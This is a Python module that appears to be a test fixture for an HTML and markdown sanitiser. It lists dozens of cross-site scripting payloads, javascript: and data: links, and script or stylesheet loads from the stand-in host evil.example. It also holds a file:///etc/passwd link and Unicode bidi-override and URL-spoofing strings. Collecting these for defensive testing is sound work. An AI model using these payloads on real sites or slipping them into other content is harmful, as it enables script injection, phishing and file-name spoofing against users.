"""What people try in texts to run a script, lead elsewhere, or turn what stands around them.

Each runs `alert`, or leads to evil.example, wherever it is taken for more than a text.
"""

# Controls that turn what stands around a text; none is kept.
OVERRIDING = "".join(chr(one) for one in (*range(0x202A, 0x202F), *range(0x2066, 0x206A)))
# Marks that Arabic and Persian need: all are kept.
KEPT = "\u200e\u200f\u061c\u200d\u200c"

_ELEMENTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
    "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style=background:url(javascript:alert(1))>x</p>",
    "<div dir=rtl style=position:fixed;inset:0>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "</title></textarea></script><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=1?><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<x-evil onclick=alert(1) tabindex=1>x</x-evil>",
    "<button formaction=javascript:alert(1)>x</button>",
    "\" onmouseover=alert(1) x=\"",
    "' autofocus onfocus=alert(1) '",
    "`${alert(1)}`",
    "{{ alert(1) }}",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "<\u0000script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # looks like it, and becomes it when folded
    "<scr\u200dipt>alert(1)</scr\u200dipt>",
    "<img src=x onerror\u200e=alert(1)>",
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\\j\\avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](https://moh.gov.jo@evil.example/)",
    "[x](https://evil.example/\"onmouseover=\"alert(1))",
    "[x](https://evil.example 'x\" onclick=\"alert(1)')",
    "[x](https://evil.example/`alert(1)`)",
    "[![x](x onerror=alert(1))](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "![x\"onerror=alert(1)](x)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://evil.example/\u202egpj.exe>",
    "https://evil.example/<script>alert(1)</script>",
    "https://evil.example/\"onclick=alert(1)",
    "`<img src=x onerror=alert(1)>`",
    "```\"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
    "```html onload=alert(1)\nx\n```",
    "> <script>alert(1)</script>",
    "1. <img src=x onerror=alert(1)>",
    "99999999999999999999. x",
    "*<script>*alert(1)*</script>*",
    "**<a href=\"javascript:alert(1)\">**",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)",
    "> " * 40 + "<script>alert(1)</script>",
    "[" * 60 + "x" + "](javascript:alert(1))" * 60,
    "*" * 400 + "x",
    "`" * 401,
    "- " * 200 + "x",
)  # fmt: skip
_TURNING = (
    f"قبل{OVERRIDING}بعد",
    "\u202egnp.exe",
    "\u2067\u2067\u2067 never closed",
    "a\u202d<b>\u202c",
    "[moh.gov.jo\u202e](https://evil.example)",
    "https://evil.example/\u2066/oj.vog.hom",
    "ا" + "\u0303" * 500,
    "\u3164\u2800\u115f",
    "\U000e0041\U000e0042",
    "a\ufeffb\u00adc",
    "x" + KEPT * 30 + "y",
)
ATTACKS = (*_ELEMENTS, *_MARKDOWN, *_TURNING)


def hostile_pages(longest: int = 4_000) -> list[str]:
    """Return all attacks as few texts of a length that may be written."""
    pages = [""]
    for attack in ATTACKS:
        if len(pages[-1]) + len(attack) > longest:
            pages.append("")
        pages[-1] += f"{attack}\n\n"
    return pages
